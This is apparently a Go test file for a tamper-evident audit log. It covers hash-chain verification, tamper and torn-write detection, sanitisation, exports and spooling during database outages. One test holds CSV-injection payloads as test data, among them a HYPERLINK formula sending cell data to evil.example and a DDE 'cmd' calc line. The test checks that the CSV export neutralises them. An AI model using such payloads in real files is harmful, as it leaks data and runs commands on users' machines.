package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"mgmtd/audit"
	"mgmtd/audit/audittest"
	"mgmtd/internal/testutil"
)

func quiet() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }

// fixedClock returns a clock that advances one second per call.
func fixedClock() func() time.Time {
	var mu sync.Mutex
	t := time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)
	return func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		t = t.Add(time.Second)
		return t
	}
}

func openJournalLog(t *testing.T, dir string) *audit.Log {
	t.Helper()
	l, err := audit.Open(context.Background(), audit.Options{Instance: "node1", StateDir: dir, AnchorInterval: -1}, quiet())
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func TestLogJournalConcurrentRecord(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	l := openJournalLog(t, dir)
	const clients, each = 16, 50
	var mu sync.Mutex
	seen := map[uint64]bool{}
	var wg sync.WaitGroup
	for c := range clients {
		wg.Go(func() {
			for i := range each {
				rc, err := l.Record(ctx, audittest.Event(c*each+i, time.Now()))
				if err != nil {
					t.Error(err)
					return
				}
				mu.Lock()
				if seen[rc.Seq] {
					t.Errorf("seq %d acknowledged twice", rc.Seq)
				}
				seen[rc.Seq] = true
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	for s := uint64(1); s <= clients*each; s++ {
		if !seen[s] {
			t.Fatalf("seq %d never acknowledged: sequence not gap-free", s)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Record(ctx, audittest.Event(0, time.Now())); !errors.Is(err, audit.ErrUnavailable) {
		t.Fatalf("record after close = %v, want ErrUnavailable", err)
	}
	rep, err := audit.VerifyStateDir(ctx, dir, audit.VerifyOptions{})
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if c := rep.Chains[0]; c.Records != clients*each || c.Anchors != 1 {
		t.Fatalf("report %+v: want %d records and the shutdown anchor", c, clients*each)
	}

	// Reopen continues the chain.
	l = openJournalLog(t, dir)
	rc, err := l.Record(ctx, audittest.Event(1, time.Now()))
	if err != nil || rc.Seq != clients*each+1 {
		t.Fatalf("after reopen: %+v %v", rc, err)
	}
	l.Close()
	if _, err := audit.VerifyStateDir(ctx, dir, audit.VerifyOptions{PublicKeys: nil}); err != nil {
		t.Fatal(err)
	}
}

func TestRecordValidation(t *testing.T) {
	l := openJournalLog(t, t.TempDir())
	defer l.Close()
	good := audittest.Event(0, time.Now())
	tests := []struct {
		name string
		mut  func(*audit.Event)
	}{
		{"no actor", func(e *audit.Event) { e.Actor = "" }},
		{"no action", func(e *audit.Event) { e.Action = "" }},
		{"bad outcome", func(e *audit.Event) { e.Outcome = "maybe" }},
		{"time before 1970", func(e *audit.Event) { e.Time = time.Date(1969, 1, 1, 0, 0, 0, 0, time.UTC) }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := good
			tc.mut(&e)
			if _, err := l.Record(context.Background(), e); !errors.Is(err, audit.ErrInvalid) {
				t.Fatalf("err = %v, want ErrInvalid", err)
			}
		})
	}
}

// TestRecordSanitizesContent: content a caller controls (a request path
// with %ff or %00, a 5 KiB path, a token name, a state that is not JSON)
// never makes a record invalid: it is stored sanitised - invalid UTF-8
// replaced, NUL escaped, over-long fields cut with a marker - and the
// chain verifies. (Required fields and the outcome are the caller's
// program, not content: they stay errors, see TestRecordValidation.)
func TestRecordSanitizesContent(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	l := openJournalLog(t, dir)
	long := "GET /" + strings.Repeat("ä", audit.MaxFieldLen)
	cases := []struct {
		name  string
		mut   func(*audit.Event)
		check func(r *audit.Record) bool
	}{
		{"invalid UTF-8", func(e *audit.Event) { e.ObjectID = "GET /api/v1/\xff\xfe" },
			func(r *audit.Record) bool { return r.ObjectID == "GET /api/v1/\uFFFD" }},
		{"NUL", func(e *audit.Event) { e.Reason = "a\x00b" },
			func(r *audit.Record) bool { return r.Reason == `a\x00b` }},
		{"over-long field", func(e *audit.Event) { e.ObjectID = long },
			func(r *audit.Record) bool {
				return len(r.ObjectID) <= audit.MaxFieldLen && strings.HasPrefix(r.ObjectID, "GET /ää") &&
					strings.HasSuffix(r.ObjectID, fmt.Sprintf("[truncated, %d bytes]", len(long)))
			}},
		{"too many roles", func(e *audit.Event) {
			e.Roles = nil
			for i := range audit.MaxRoles + 10 {
				e.Roles = append(e.Roles, fmt.Sprintf("r%03d", i))
			}
		}, func(r *audit.Record) bool { return len(r.Roles) == audit.MaxRoles }},
		{"state not JSON", func(e *audit.Event) { e.After = []byte("{") },
			func(r *audit.Record) bool { return strings.Contains(string(r.After), `"invalid":true`) }},
		{"state too long", func(e *audit.Event) { e.Before = []byte(`"` + strings.Repeat("x", audit.MaxStateLen) + `"`) },
			func(r *audit.Record) bool { return strings.Contains(string(r.Before), `"truncated":true`) }},
	}
	for i, tc := range cases {
		e := audittest.Event(i, time.Now())
		tc.mut(&e)
		rc, err := l.Record(ctx, e)
		if err != nil {
			t.Errorf("%s: not recorded: %v", tc.name, err)
			continue
		}
		var got *audit.Record
		j, err := audit.OpenJournalReadOnly(filepath.Join(dir, audit.JournalFile))
		if err != nil {
			t.Fatal(err)
		}
		j.Scan(ctx, "", rc.Seq, func(r *audit.Record) error { got = r; return errors.New("stop") })
		j.Close()
		if got == nil || !tc.check(got) {
			t.Errorf("%s: stored as %+v", tc.name, got)
		}
	}
	l.Close()
	if rep, err := audit.VerifyStateDir(ctx, dir, audit.VerifyOptions{}); err != nil || len(rep.Chains) != 1 || rep.Chains[0].Records != len(cases) {
		t.Fatalf("verify: %v %+v", err, rep)
	}
}

func TestRecordNormalizes(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	l := openJournalLog(t, dir)
	e := audittest.Event(0, time.Date(2026, 5, 1, 2, 3, 4, 5678999, time.FixedZone("x", 3600)))
	e.Roles = []string{"z", "a"}
	e.Before = []byte(" { \"b\" : [ 1 , 2 ] ,\n \"a\":null } ")
	e.After = []byte("null")
	rc, err := l.Record(ctx, e)
	if err != nil {
		t.Fatal(err)
	}
	l.Close()
	var got audit.Record
	j, _ := audit.OpenJournal(filepath.Join(dir, audit.JournalFile), 0)
	defer j.Close()
	j.Scan(ctx, "", 0, func(r *audit.Record) error { got = *r; return nil })
	if want := time.Date(2026, 5, 1, 1, 3, 4, 5678000, time.UTC); !got.Time.Equal(want) || got.Time.Location() != time.UTC {
		t.Errorf("time = %v, want %v in UTC", got.Time, want)
	}
	if strings.Join(got.Roles, ",") != "a,z" || string(got.Before) != `{"b":[1,2],"a":null}` || got.After != nil {
		t.Errorf("not normalized: roles %v before %s after %q", got.Roles, got.Before, got.After)
	}
	if got.Hash != rc.Hash || got.ComputeHash() != rc.Hash {
		t.Errorf("stored hash differs from receipt")
	}
}

// TestJournalTamper alters a journal the way an attacker with file access
// would and checks that verification catches each change.
func TestJournalTamper(t *testing.T) {
	ctx := context.Background()
	base := t.TempDir()
	l := openJournalLog(t, base)
	for i := range 50 {
		if _, err := l.Record(ctx, audittest.Event(i, time.Time{})); err != nil {
			t.Fatal(err)
		}
	}
	pub := l.PublicKey()
	l.Close()
	orig, _ := os.ReadFile(filepath.Join(base, audit.JournalFile))
	anchors, err := audit.ReadAnchorFile(filepath.Join(base, audit.JournalFile+".anchors"))
	if err != nil || len(anchors) != 1 {
		t.Fatalf("anchors: %v %v", anchors, err)
	}
	lines := bytes.SplitAfter(orig, []byte("\n"))
	lines = lines[:len(lines)-1]
	rehash := func(ls [][]byte, from int, edit func(*audit.Record)) [][]byte {
		out := append([][]byte{}, ls...)
		prev, _ := audit.ParseJSONL(out[from-1])
		for i := from; i < len(out); i++ {
			r, _ := audit.ParseJSONL(out[i])
			if i == from {
				edit(&r)
			}
			r.PrevHash = prev.Hash
			r.Hash = r.ComputeHash()
			out[i] = r.MarshalJSONL()
			prev = r
		}
		return out
	}
	tests := []struct {
		name    string
		lines   [][]byte
		trusted bool   // verify with the exported anchor
		want    string // problem substring; "" means verifies
	}{
		{"untouched", lines, true, ""},
		{"edited field", replace(lines, 20, bytes.Replace(lines[20], []byte(`"outcome":"`), []byte(`"outcome":"x`), 1)), false, "line 21"},
		{"edited reason", replace(lines, 20, bytes.Replace(lines[20], []byte(`"request_id":"req-20"`), []byte(`"request_id":"req-99"`), 1)), false, "content hash mismatch"},
		{"deleted middle", append(append([][]byte{}, lines[:30]...), lines[31:]...), false, "gap: expected seq 31"},
		{"reordered", swap(lines, 10, 11), false, "out of order"},
		{"deleted tail, no anchor", lines[:45], false, ""},
		{"deleted tail", lines[:45], true, "tail deleted"},
		{"rewritten and rehashed, no anchor", rehash(lines, 25, func(r *audit.Record) { r.Reason += " (edited)" }), false, ""},
		{"rewritten and rehashed", rehash(lines, 25, func(r *audit.Record) { r.Reason += " (edited)" }), true, "chain rewritten"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, audit.JournalFile), bytes.Join(tc.lines, nil), 0o600); err != nil {
				t.Fatal(err)
			}
			opts := audit.VerifyOptions{}
			if tc.trusted {
				opts.Anchors = anchors
				opts.PublicKeys = append(opts.PublicKeys, pub)
			}
			rep, err := audit.VerifyStateDir(ctx, dir, opts)
			audittest.CheckVerify(t, rep, err, tc.want)
			// The same bytes as a JSON Lines export (order-insensitive).
			if tc.name != "reordered" {
				rep, err = audit.VerifyJSONL(ctx, bytes.NewReader(bytes.Join(tc.lines, nil)), opts)
				audittest.CheckVerify(t, rep, err, tc.want)
			}
		})
	}
}

func replace(ls [][]byte, i int, b []byte) [][]byte {
	out := append([][]byte{}, ls...)
	out[i] = b
	return out
}

func swap(ls [][]byte, i, j int) [][]byte {
	out := append([][]byte{}, ls...)
	out[i], out[j] = out[j], out[i]
	return out
}

func TestJournalTornTail(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	l := openJournalLog(t, dir)
	for i := range 3 {
		l.Record(ctx, audittest.Event(i, time.Time{}))
	}
	l.Close()
	path := filepath.Join(dir, audit.JournalFile)
	f, _ := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString(`{"instance":"node1","seq":4,"ti`) // crash mid-write
	f.Close()
	l = openJournalLog(t, dir)
	rc, err := l.Record(ctx, audittest.Event(9, time.Time{}))
	if err != nil || rc.Seq != 4 {
		t.Fatalf("after torn tail: %+v %v", rc, err)
	}
	l.Close()
	if _, err := audit.VerifyStateDir(ctx, dir, audit.VerifyOptions{}); err != nil {
		t.Fatal(err)
	}
	// A malformed line in the middle is corruption, not a torn write.
	b, _ := os.ReadFile(path)
	os.WriteFile(path, bytes.Replace(b, []byte(`"seq":2,`), []byte(`"seq":2,,`), 1), 0o600)
	if _, err := audit.OpenJournal(path, 0); err == nil {
		t.Fatal("journal with a corrupt middle line opened")
	}
}

func TestQueryAndExportAreRecorded(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	l, err := audit.Open(ctx, audit.Options{Instance: "node1", StateDir: dir, AnchorInterval: -1, Now: fixedClock()}, quiet())
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	for i := range 5 {
		e := audittest.Event(i, time.Time{})
		if _, err := l.Record(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	by := audit.Event{Actor: "auditor1", AuthMethod: "oidc", Roles: []string{"auditor"}, Channel: audit.ChannelREST,
		Source: "198.51.100.7:5555", RequestID: "r-1"}
	p, err := l.Query(ctx, audit.Filter{Limit: 3}, by)
	if err != nil || len(p.Records) != 3 || p.Next == "" {
		t.Fatalf("query page 1: %d records, next %q, %v", len(p.Records), p.Next, err)
	}
	p, err = l.Query(ctx, audit.Filter{Limit: 3, Cursor: p.Next}, by)
	if err != nil || len(p.Records) != 3 || p.Records[2].Action != audit.ActionAuditQuery {
		t.Fatalf("query page 2: %+v %v", p, err)
	}
	var out bytes.Buffer
	m, err := l.Export(ctx, audit.Filter{}, audit.FormatJSONL, &out, by)
	if err != nil {
		t.Fatal(err)
	}
	if m.Records != 8 || len(m.Ranges) != 1 || !m.Ranges[0].Complete || m.Ranges[0].Last != 8 {
		t.Fatalf("manifest %+v", m)
	}
	p, _ = l.Query(ctx, audit.Filter{Action: audit.ActionAuditExportManifest}, by)
	if len(p.Records) != 1 || !strings.Contains(string(p.Records[0].After), m.SHA256) {
		t.Fatalf("manifest not recorded: %+v", p.Records)
	}
	if _, err := audit.VerifyJSONL(ctx, &out, audit.VerifyOptions{}); err != nil {
		t.Fatalf("exported JSONL does not verify: %v", err)
	}
}

// TestExportGolden pins the three export formats.
func TestExportGolden(t *testing.T) {
	ctx := context.Background()
	j, err := audit.OpenJournal(filepath.Join(t.TempDir(), audit.JournalFile), 0)
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	recs := audittest.Chain(audit.Head{Instance: "node1"}, 6, time.Date(2026, 11, 22, 3, 0, 0, 250000000, time.UTC))
	if err := j.Append(ctx, recs); err != nil {
		t.Fatal(err)
	}
	for _, f := range []audit.Format{audit.FormatJSONL, audit.FormatCSV, audit.FormatCEF} {
		t.Run(string(f), func(t *testing.T) {
			var b bytes.Buffer
			m, err := audit.WriteExport(ctx, j, audit.Filter{}, f, &b)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&b, "# manifest: %d records sha256 %s ranges %+v\n", m.Records, m.SHA256, m.Ranges)
			testutil.Golden(t, filepath.Join("testdata", "export."+string(f)+".golden"), b.Bytes())
		})
	}
}

// TestCSVExportNeutralisesFormulas: a cell an attacker controls (the
// X-Request-Id, the source, the reason...) that a spreadsheet would run as a
// formula is written with a leading apostrophe (OWASP, CSV injection),
// while the JSON Lines export keeps the value exact and verifies.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	l := openJournalLog(t, dir)
	defer l.Close()
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"}
	for i, p := range payloads {
		e := audittest.Event(i, time.Time{})
		e.RequestID, e.Reason, e.Actor = p, p, p
		if _, err := l.Record(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if _, err := audit.WriteExport(ctx, l.Store(), audit.Filter{}, audit.FormatCSV, &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %s column %d starts a formula: %q", row[1], i, cell)
			}
		}
		if want := "'" + payloads[mustAtoi(t, row[1])-1]; row[8] != want {
			t.Errorf("request id %q, want %q", row[8], want)
		}
	}
	out.Reset()
	if _, err := audit.WriteExport(ctx, l.Store(), audit.Filter{}, audit.FormatJSONL, &out); err != nil {
		t.Fatal(err)
	}
	rep, err := audit.VerifyJSONL(ctx, bytes.NewReader(out.Bytes()), audit.VerifyOptions{})
	if err != nil || rep.Chains[0].Records != len(payloads) {
		t.Fatalf("JSON Lines export: %v %+v", err, rep)
	}
	for i, line := range bytes.Split(bytes.TrimSpace(out.Bytes()), []byte("\n")) {
		r, err := audit.ParseJSONL(append(line, '\n'))
		if err != nil || r.RequestID != payloads[i] {
			t.Errorf("JSON Lines request id %q, want %q exactly (%v)", r.RequestID, payloads[i], err)
		}
	}
}

func mustAtoi(t *testing.T, s string) int {
	t.Helper()
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// flakyStore is a store (a journal standing in for the database) that can
// be taken down: every call then fails as an unreachable database would.
type flakyStore struct {
	*audit.Journal
	down atomic.Bool
}

var errDown = errors.New("connection refused")

func (s *flakyStore) Head(ctx context.Context, inst string) (audit.Head, error) {
	if s.down.Load() {
		return audit.Head{}, errDown
	}
	return s.Journal.Head(ctx, inst)
}

func (s *flakyStore) Append(ctx context.Context, recs []audit.Record) error {
	if s.down.Load() {
		return errDown
	}
	return s.Journal.Append(ctx, recs)
}

func (s *flakyStore) AppendAnchor(ctx context.Context, a audit.Anchor) error {
	if s.down.Load() {
		return errDown
	}
	return s.Journal.AppendAnchor(ctx, a)
}

func newFlakyStore(t *testing.T) *flakyStore {
	t.Helper()
	j, err := audit.OpenJournal(filepath.Join(t.TempDir(), "db.jsonl"), 0)
	if err != nil {
		t.Fatal(err)
	}
	return &flakyStore{Journal: j}
}

// TestSpoolReservesRoomForActions: while the database is down, noise
// (RecordNoise: the summaries of refused requests) may use only its share
// of the spool; actions and real authentication events still have the
// rest, so noise never makes them fail closed. What noise was refused is
// counted in audit.recovered.
func TestSpoolReservesRoomForActions(t *testing.T) {
	ctx := context.Background()
	db := newFlakyStore(t)
	l, err := audit.Open(ctx, audit.Options{Instance: "node1", StateDir: t.TempDir(), Primary: db, SpoolLimit: 100,
		SpoolNoiseLimit: 20, RetryInterval: 10 * time.Millisecond, AnchorInterval: -1}, quiet())
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if _, err := l.Record(ctx, audittest.Event(0, time.Time{})); err != nil {
		t.Fatal(err)
	}
	db.down.Store(true)
	refused := 0
	for i := range 200 {
		if _, err := l.RecordNoise(ctx, audittest.Event(i, time.Time{})); errors.Is(err, audit.ErrUnavailable) {
			refused++
		} else if err != nil {
			t.Fatal(err)
		}
	}
	if refused < 180 {
		t.Fatalf("%d of 200 noise records refused, want all but the share of 20", refused)
	}
	for i := range 75 {
		rc, err := l.Record(ctx, audittest.Event(i, time.Time{}))
		if err != nil {
			t.Fatalf("action %d with a spool full of noise: %v", i, err)
		}
		if !rc.Spooled {
			t.Fatalf("action %d not spooled", i)
		}
	}
	db.down.Store(false)
	testutil.Eventually(t, 10*time.Second, func() bool { return !l.Degraded() }, "the spool is replayed")
	recs, err := db.Query(ctx, audit.Filter{Action: audit.ActionAuditRecovered})
	if err != nil || len(recs) != 1 || !strings.Contains(recs[0].Reason, fmt.Sprintf("%d noise records refused", refused)) {
		t.Fatalf("audit.recovered %+v %v, want it to count the %d refused noise records", recs, err, refused)
	}
}
